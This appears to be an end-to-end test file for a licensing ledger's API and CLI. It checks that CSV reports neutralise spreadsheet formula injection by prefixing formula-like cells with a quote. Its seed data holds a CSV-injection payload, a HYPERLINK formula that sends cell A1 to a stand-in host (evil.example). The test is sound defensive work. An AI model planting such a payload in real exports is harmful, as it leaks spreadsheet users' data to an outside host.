import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { tenantStreamName } from '@ledger/licensing';
import { runCli } from '../apps/ledger-cli/src/cli';
import { E2E_STORE_ADAPTER, LedgerTestApp } from './support/ledger-test-app';
import { expectStatus, TenantClient } from './support/tenant-client';
import { tokens } from './support/tokens';

const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
const NUMBER = '+14255550123';
/** Ids cannot start with a formula character through the API; another writer of the log can. */
const FORMULA_TENANT = '@SUM(1+1)';

/**
 * A broken resource account whose display name is a formula (R6: split swap), and a tenant whose
 * id, written into the log by another tool, is one too.
 */
async function seedFormulaCells(app: LedgerTestApp): Promise<void> {
  const tenant = new TenantClient(app, 'csv-formulas');
  expectStatus(await tenant.purchase('PHONE_SYSTEM', 1), 201);
  expectStatus(await tenant.purchase('PHONE_SYSTEM_VIRTUAL_USER', 1), 201);
  expectStatus(
    await tenant.call('POST', '/accounts', {
      accountId: 'aa-formula',
      displayName: FORMULA_NAME,
      kind: 'resource',
      resourceType: 'auto-attendant',
    }),
    201,
  );
  expectStatus(await tenant.assign('aa-formula', 'PHONE_SYSTEM_VIRTUAL_USER'), 201);
  expectStatus(await tenant.assignNumber('aa-formula', NUMBER), 200);
  expectStatus(await tenant.unassign('aa-formula', 'PHONE_SYSTEM_VIRTUAL_USER'), 200);
  expectStatus(await tenant.assign('aa-formula', 'PHONE_SYSTEM_VIRTUAL_USER'), 201);

  const metadata = {
    tenantId: FORMULA_TENANT,
    activityId: 'activity-formula',
    commandId: 'command-formula',
    actor: '-importer',
    correlationId: 'c-formula',
    occurredAt: new Date().toISOString(),
    schemaVersion: 1,
  };
  await app.store.append(
    tenantStreamName(FORMULA_TENANT),
    [
      {
        id: '5c1a9d52-8d0e-4c47-9d0a-6f4f3b1e0001',
        type: 'LicensePurchased',
        data: {
          purchaseId: 'p-formula',
          sku: 'PHONE_SYSTEM',
          quantity: 1,
          unitPrice: 8,
          currency: 'USD',
          policy: 'seed',
          allocationAfter: 25,
        },
        metadata,
      },
      // R1 (2019): a resource account with a number and no licence, so the tenant needs action (attention).
      {
        id: '5c1a9d52-8d0e-4c47-9d0a-6f4f3b1e0002',
        type: 'AccountCreated',
        data: { accountId: 'aa-bare', displayName: 'Bare', kind: 'resource', resourceType: 'auto-attendant' },
        metadata,
      },
      {
        id: '5c1a9d52-8d0e-4c47-9d0a-6f4f3b1e0003',
        type: 'PhoneNumberAssigned',
        data: { accountId: 'aa-bare', phoneNumber: '+14255550199' },
        metadata,
      },
    ],
    'any',
  );
}

type Rows = Record<string, string>[];

function expectSafe(quota: Rows, broken: Rows): void {
  expect(quota.find((row) => row.tenantId.includes('SUM'))).toMatchObject({
    tenantId: `'${FORMULA_TENANT}`,
    phoneSystemPurchased: '1',
  });
  expect(broken).toEqual([
    expect.objectContaining({
      tenantId: 'csv-formulas',
      accountId: 'aa-formula',
      displayName: `'${FORMULA_NAME}`,
      // E.164 numbers are data: as they are.
      phoneNumber: NUMBER,
    }),
  ]);
  expectNoFormula([...quota, ...broken]);
}

/** No cell anywhere starts a formula (E.164 numbers are data). */
function expectNoFormula(rows: Rows): void {
  for (const row of rows)
    for (const [column, cell] of Object.entries(row))
      if (cell !== NUMBER)
        expect({ column, cell: /^[=+\-@\t\r]/.test(cell) }).toEqual({ column, cell: false });
}

/** SPEC §5 attention: the tenant written by another tool is listed, its id made text. */
function expectSafeAttention(attention: Rows): void {
  expect(attention.map((row) => [row.tenantId, row.code])).toEqual(
    expect.arrayContaining([
      ['csv-formulas', 'BROKEN_ACCOUNTS'],
      [`'${FORMULA_TENANT}`, 'UNLICENSED'],
    ]),
  );
  expectNoFormula(attention);
}

/**
 * SPEC §6, issue 10 #11: in every CSV the service or the CLI writes, a free-text cell that a
 * spreadsheet would run as a formula is prefixed with `'`; E.164 numbers are written as they are.
 */
describe('CSV reports never carry a live formula (SPEC §6)', () => {
  let app: LedgerTestApp;
  beforeAll(async () => {
    app = await LedgerTestApp.start();
    await seedFormulaCells(app);
  });
  afterAll(() => app.close({ keepData: false }));

  it('the API: quota, broken-accounts and attention CSV; the JSON keeps the values as recorded', async () => {
    const admin = tokens.globalAdmin();
    const csv = async (url: string) => {
      const answer = await app.request<string>('GET', url, { token: admin });
      expect(answer.status).toBe(200);
      return parse(answer.body, { columns: true }) as Rows;
    };
    expectSafe(
      await csv('/v1/reports/quota?format=csv'),
      await csv('/v1/reports/broken-accounts?format=csv'),
    );
    expectSafeAttention(await csv('/v1/reports/attention?format=csv'));
    const json = await app.request<{ accounts: Array<{ displayName: string }> }>(
      'GET',
      '/v1/reports/broken-accounts',
      { token: admin },
    );
    expect(json.body.accounts.map((account) => account.displayName)).toEqual([FORMULA_NAME]);
  });

  // The CLI reads the embedded store's file; with EventStoreDB the API suites above are the check.
  (E2E_STORE_ADAPTER === 'embedded' ? it : it.skip)(
    'the CLI: report quota, broken-accounts and attention --format csv',
    async () => {
      const dataDir = app.dataDir;
      await app.close({ keepData: true });
      const csv = async (report: string) => {
        let text = '';
        const stdout = new Writable({
          write(chunk: Buffer | string, _encoding, done) {
            text += String(chunk);
            done();
          },
        });
        const stderr = new Writable({ write: (_chunk, _encoding, done) => done() });
        const code = await runCli(['report', report, '--format', 'csv'], {
          stdout,
          stderr,
          env: { LEDGER_DATA_DIR: dataDir },
          now: () => new Date(),
        });
        expect(code).toBe(0);
        return parse(text, { columns: true }) as Rows;
      };
      expectSafe(await csv('quota'), await csv('broken-accounts'));
      expectSafeAttention(await csv('attention'));
      app = await LedgerTestApp.start({}, dataDir);
    },
    60_000,
  );
});
